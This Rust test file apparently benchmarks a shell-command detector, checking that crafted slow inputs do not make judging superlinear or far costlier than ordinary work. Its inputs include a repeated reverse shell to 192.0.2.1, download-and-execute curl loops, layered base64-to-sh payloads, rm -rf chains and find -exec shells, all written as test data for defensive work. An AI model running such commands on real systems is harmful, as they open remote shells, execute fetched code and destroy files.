//! No line makes judging slower than ten times what ordinary lines take for each byte, and twice the
//! length never costs four times as much.
//!
//! Both sides are measured in the same run, and of several runs the least counts: what else the
//! machine does changes neither.

use std::hint::black_box;
use std::time::Instant;

use audit_detect::Detector;
use audit_detect::shell::Variables;

/// Nanoseconds judging `text` takes.
fn cost(text: &str) -> u64 {
    let detector = Detector::embedded();
    let run = || {
        let begun = Instant::now();
        black_box(detector.line(text, &mut Variables::new(), false));
        begun.elapsed().as_nanos() as u64
    };
    (0..4).map(|_| run()).min().unwrap_or(0)
}

/// Lines made to be slow, of about `size` bytes.
fn slow(size: usize) -> Vec<(&'static str, String)> {
    let times = |text: &str| text.repeat(size / text.len());
    let each = |made: &dyn Fn(usize) -> String, joint: &str| {
        let length = made(1000).len() + joint.len();
        (0..size / length).map(made).collect::<Vec<_>>().join(joint)
    };
    let encoded = {
        let mut text = "id".to_owned();
        while text.len() < size / 2 {
            text = format!("echo {} | base64 -d | sh", base64(text.as_bytes()));
        }
        text
    };
    vec![
        ("substitutions that do not end", times("$(")),
        ("substitutions", format!("{}id{}", "echo $(".repeat(size / 8), ")".repeat(size / 8))),
        ("quotes that open and close", times("\"$(echo \"")),
        ("back quotes", times("`")),
        ("brackets", times("(")),
        ("brace lists", times("{a,")),
        ("defaults of variables", times("${a:-")),
        ("escapes", times("$'\\x41")),
        ("wildcards", times("/???/")),
        ("one word", times("A")),
        ("a pipeline", each(&|i| format!("c{i}"), " | ")),
        (
            "a pipeline of filters",
            format!("echo {}{}", "a".repeat(size / 2), " | rev".repeat(size / 12)),
        ),
        ("wrappers", times("xargs ") + "id"),
        ("layers of eval", times("eval ") + "id"),
        ("shells without a script", times("sh ")),
        ("many commands", each(&|i| format!("echo {i}"), "; ")),
        ("many files", each(&|i| format!("echo {i} > /tmp/f{i}"), "; ")),
        ("one file written often", each(&|i| format!("echo {i} >> /tmp/f"), "; ")),
        ("many directories", each(&|i| format!("cd d{i}; rm x"), "; ")),
        ("many downloads", each(&|i| format!("curl http://h/{i} -o f{i}; ./f{i}"), "; ")),
        ("many variables", each(&|i| format!("a{i}=${{a{}}}x", i.saturating_sub(1)), "; ")),
        ("a value that doubles", format!("a=xxxxxxxx; {}", times("a=$a$a; "))),
        ("here documents", times("cat <<E;")),
        ("cases", format!("case x in {}", times("a) b;; "))),
        ("many -exec", format!("find / {}", times("-exec sh -c id ; "))),
        ("layers of Base64", encoded),
        ("what rules excuse", each(&|i| format!("rm -rf ./b{i}"), "; ")),
        ("an attack again and again", times("bash -i >& /dev/tcp/192.0.2.1/9 0>&1; ")),
    ]
}

fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let group = |group: &[u8]| {
        let bits =
            group.iter().fold(0u32, |bits, b| bits << 8 | u32::from(*b)) << (8 * (3 - group.len()));
        let sign = |at: usize| char::from(SIGNS[(bits >> (18 - 6 * at)) as usize & 63]);
        (0..4).map(|at| if at <= group.len() { sign(at) } else { '=' }).collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

/// What a byte of ordinary work takes at the median, in picoseconds.
fn ordinary() -> u64 {
    let records =
        include_str!("generality/work.txt").split("\n\n").filter(|r| !r.starts_with("%%"));
    let mut costs = Vec::new();
    for record in records.step_by(4) {
        costs.push(cost(record) * 1000 / record.len().max(1) as u64);
    }
    costs.sort_unstable();
    costs[costs.len() / 2]
}

#[test]
fn no_line_is_slower_than_ten_times_the_median_for_each_byte() {
    let median = ordinary();
    let dear: Vec<String> = slow(8 << 10)
        .into_iter()
        .filter_map(|(name, text)| {
            let byte = cost(&text) * 1000 / text.len() as u64;
            (byte > 10 * median)
                .then(|| format!("{name}: {byte} ps a byte, the median is {median}"))
        })
        .collect();
    assert!(dear.is_empty(), "{dear:#?}");
}

#[test]
fn work_grows_with_the_length_and_not_with_its_square() {
    let steep: Vec<String> = slow(2 << 10)
        .into_iter()
        .zip(slow(16 << 10))
        .filter_map(|((name, short), (_, long))| {
            let (few, many) = (cost(&short), cost(&long));
            (many > 24 * few).then(|| format!("{name}: {few} ns, eight times as long {many} ns"))
        })
        .collect();
    assert!(steep.is_empty(), "{steep:#?}");
}
